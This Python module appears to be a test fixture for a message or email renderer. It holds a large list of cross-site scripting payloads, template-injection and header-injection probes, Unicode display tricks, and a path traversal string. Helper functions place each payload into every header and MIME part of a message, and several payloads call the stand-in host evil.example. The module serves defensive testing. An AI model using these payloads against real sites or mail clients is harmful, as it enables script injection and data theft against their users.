"""What people send to run something in somebody else's browser. Every one is shown on several pages.

`ALERT` stands for what would be noticed: a dialog, a request, a change of the page. None of these is from a corpus.
"""

from collections.abc import Iterator
from typing import Final

ALERT: Final = "alert(document.domain)"
AWAY: Final = "//evil.example"

_EVENTS: Final = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin")
_TAGS: Final = (
    "<script>{a}</script>",
    "<script src={w}/x.js></script>",
    "<script>{a}",
    "<SCRIPT>{a}</SCRIPT>",
    "<scr<script>ipt>{a}</scr</script>ipt>",
    "<script/x>{a}</script>",
    "<script\n>{a}</script\n>",
    "<img src=x onerror={a}>",
    "<img src={w}/pixel.gif>",
    "<img srcset='{w}/a 1x'>",
    "<image href={w}/a>",
    "<svg onload={a}>",
    "<svg/onload={a}>",
    "<svg><script>{a}</script></svg>",
    "<svg><animate onbegin={a} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{a}>x</a>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{a}</script></svg>#x'>",
    "<math><mi xlink:href=javascript:{a}>x",
    "<iframe src=javascript:{a}>",
    "<iframe srcdoc='<script>{a}</script>'>",
    "<iframe src={w}>",
    "<object data=javascript:{a}>",
    "<object data={w}/x.swf>",
    "<embed src={w}/x>",
    "<applet code=x>",
    "<link rel=stylesheet href={w}/x.css>",
    "<link rel=prefetch href={w}/x>",
    "<link rel=dns-prefetch href={w}>",
    "<link rel=preconnect href={w}>",
    "<style>@import '{w}/x.css';</style>",
    "<style>*{{background:url({w}/x)}}</style>",
    "<base href={w}/>",
    "<meta http-equiv=refresh content='0;url={w}'>",
    "<meta http-equiv=Content-Security-Policy content=x>",
    "<meta name=referrer content=unsafe-url>",
    "<form action={w}><button>x</button></form>",
    "<button formaction={w}>x</button>",
    "<input onfocus={a} autofocus>",
    "<select onfocus={a} autofocus>",
    "<textarea onfocus={a} autofocus>",
    "<details open ontoggle={a}>",
    "<marquee onstart={a}>",
    "<video src=x onerror={a}>",
    "<video poster={w}/x>",
    "<audio src={w}/x autoplay>",
    "<source srcset={w}/x>",
    "<track src={w}/x default>",
    "<body onload={a}>",
    "<body background={w}/x>",
    "<table background={w}/x>",
    "<div style='background:url({w}/x)'>x",
    "<p style=behavior:url({w}/x)>",
    "<a href=javascript:{a}>x</a>",
    "<a href='java\tscript:{a}'>x</a>",
    "<a href=data:text/html,<script>{a}</script>>x</a>",
    "<a ping={w} href=/>x</a>",
    "<area href=javascript:{a}>",
    "<isindex action=javascript:{a} type=image>",
    "<keygen autofocus onfocus={a}>",
    "<template><script>{a}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={a}>'>",
    "<xmp><script>{a}</script></xmp>",
    "<plaintext><script>{a}",
    "<![CDATA[<script>{a}</script>]]>",
    "<!--<img src='--><img src=x onerror={a}>'-->",
    "<?xml version=1.0?><script>{a}</script>",
    "<title><img src=x onerror={a}></title>",
    "</title><script>{a}</script>",
    "</textarea><script>{a}</script>",
    "</style><script>{a}</script>",
    "</script><script>{a}</script>",
    "--><script>{a}</script>",
    "]]><script>{a}</script>",
    "</pre></figure></main><h1>forged</h1>",
    '"><script>{a}</script>',
    "'><script>{a}</script>",
    '" onmouseover={a} x="',
    "' onmouseover={a} x='",
    "` onmouseover={a} x=`",
    '" autofocus onfocus={a} "',
    "'-{a}-'",
    '\\"-{a}//',
    "${{{a}}}",
    "{{{{7*7}}}}",
    "{{% for x in [1] %}}{{{{x}}}}{{% endfor %}}",
    "{{{{config}}}}",
    "{{{{''.__class__.__mro__}}}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "%0d%0aSet-Cookie:x=1",
    "javascript:{a}",
    "&lt;script&gt;{a}&lt;/script&gt;",
    "&#60;script&#62;{a}",
    "\\u003cscript\\u003e{a}",
    "%3Cscript%3E{a}",
    "+ADw-script+AD4-{a}+ADw-/script+AD4-",
    "\N{FULLWIDTH LESS-THAN SIGN}script{a}",
    "<\0script>{a}</script>",
    "<img\0src=x\0onerror={a}>",
    "<img/src='x'/onerror='{a}'>",
    "<img src=x:x onerror\n=\n{a}>",
    "<img src=`x`onerror={a}>",
    "<custom-element onfocus={a} tabindex=1 autofocus>",
    "<a id=location href={w}>x</a>",
    "<form id=teach action={w}>x</form>",
    "<input name=token value=stolen>",
    "<table class=messages data-live={w} data-focus=1></table>",
    "<li data-job={w}></li>",
    "<dialog open>x</dialog>",
)
_PLAIN: Final = (
    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
    "\N{RIGHT-TO-LEFT ISOLATE}abc\N{LEFT-TO-RIGHT OVERRIDE}def",
    "\N{RIGHT-TO-LEFT MARK}\N{LEFT-TO-RIGHT EMBEDDING}x",
    "\N{ZERO WIDTH SPACE}\N{ZERO WIDTH JOINER}\N{WORD JOINER}x",
    "x\N{LINE SEPARATOR}alert(1)\N{PARAGRAPH SEPARATOR}",
    "\N{ZERO WIDTH NO-BREAK SPACE}x",
    "a" + "\N{COMBINING ACUTE ACCENT}" * 3000,
    "\x1b[31mred\x1b]0;title\x07",
    "x" * 5000,
    "\N{ARABIC LETTER ALEF}" * 3000,
    "../../../../etc/passwd",
    "\N{TAG LATIN SMALL LETTER A}\N{TAG LATIN SMALL LETTER B}",
)


def payloads() -> Iterator[str]:
    """Yield each text once."""
    for tag in _TAGS:
        yield tag.format(a=ALERT, w=AWAY)
    for event in _EVENTS:
        yield f"<b {event}={ALERT} style=animation-name:x tabindex=1>x</b>"
    yield from _PLAIN


def hostile(payload: str, number: int) -> bytes:
    """Put a text wherever a message has room for one."""
    text = payload.encode("utf-8", "replace")
    line = b" ".join(text.split())[:800]
    return b"".join(
        [
            b'From: "',
            line.replace(b'"', b"'"),
            b'" <a%d@evil.example>\nTo: ' % number,
            line,
            b"\nReply-To: ",
            line,
            b"\nSubject: ",
            line,
            b"\nX-Odd: ",
            line,
            b"\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n",
            b"--b\nContent-Type: text/plain; charset=utf-8\n\n",
            text,
            b"\nplain words here\n",
            b"--b\nContent-Type: text/html; charset=utf-8\n\n<html><body>",
            text,
            b"<p>html words here</p></body></html>\n",
            b'--b\nContent-Type: image/svg+xml; name="',
            line.replace(b'"', b"'")[:200],
            b'"\nContent-Disposition: attachment\n\n',
            text,
            b"\n--b--\n",
        ]
    )


def long_lines() -> list[bytes]:
    """Messages whose lines are a megabyte long, each of another kind."""
    head = b"From: a@evil.example\nTo: me\nSubject: long %d\n"
    return [
        head % 1 + b"\n" + b"x" * (1 << 20),
        head % 2 + b"Content-Type: text/html\n\n" + b"<b>" * 350_000,
        head % 3 + b"\n" + b"word " * 210_000,
        head % 4 + b"X-Long: " + b"y" * (1 << 20) + b"\n\nshort",
        head % 5 + b"Content-Type: text/html\n\n<script>" + b"a" * (1 << 20),
        b"Subject: " + b"z" * (1 << 20) + b"\nFrom: a@evil.example\n\nshort",
    ]
